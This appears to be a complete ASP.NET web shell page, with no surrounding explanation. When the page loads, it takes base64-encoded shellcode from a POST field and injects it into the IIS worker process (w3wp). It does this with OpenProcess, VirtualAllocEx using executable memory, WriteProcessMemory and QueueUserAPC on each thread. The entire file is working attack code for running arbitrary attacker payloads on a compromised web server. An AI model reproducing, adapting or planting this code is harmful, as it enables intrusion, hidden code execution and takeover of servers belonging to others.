<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<%@ Import Namespace="System.Runtime.InteropServices" %>
<script runat="server">
    [DllImport("kernel32.dll")] static extern IntPtr OpenProcess(uint a, bool i, int pid);
    [DllImport("kernel32.dll")] static extern IntPtr OpenThread(uint a, bool i, uint tid);
    [DllImport("kernel32.dll")] static extern IntPtr VirtualAllocEx(IntPtr h, IntPtr a, uint s, uint t, uint p);
    [DllImport("kernel32.dll")] static extern bool WriteProcessMemory(IntPtr h, IntPtr a, byte[] b, int s, out IntPtr w);
    [DllImport("kernel32.dll")] static extern uint QueueUserAPC(IntPtr fn, IntPtr hThread, IntPtr data);
    void Page_Load(object o, EventArgs e)
    {
        byte[] buf = Convert.FromBase64String(Request.Form["b"]);
        foreach (Process p in Process.GetProcessesByName("w3wp"))
        {
            IntPtr hp = OpenProcess(0x1F0FFF, false, p.Id);
            IntPtr addr = VirtualAllocEx(hp, IntPtr.Zero, (uint)buf.Length, 0x3000, 0x40);
            IntPtr n;
            WriteProcessMemory(hp, addr, buf, buf.Length, out n);
            foreach (ProcessThread t in p.Threads)
            {
                IntPtr ht = OpenThread(0x0010, false, (uint)t.Id);
                QueueUserAPC(addr, ht, IntPtr.Zero);
            }
            break;
        }
    }
</script>
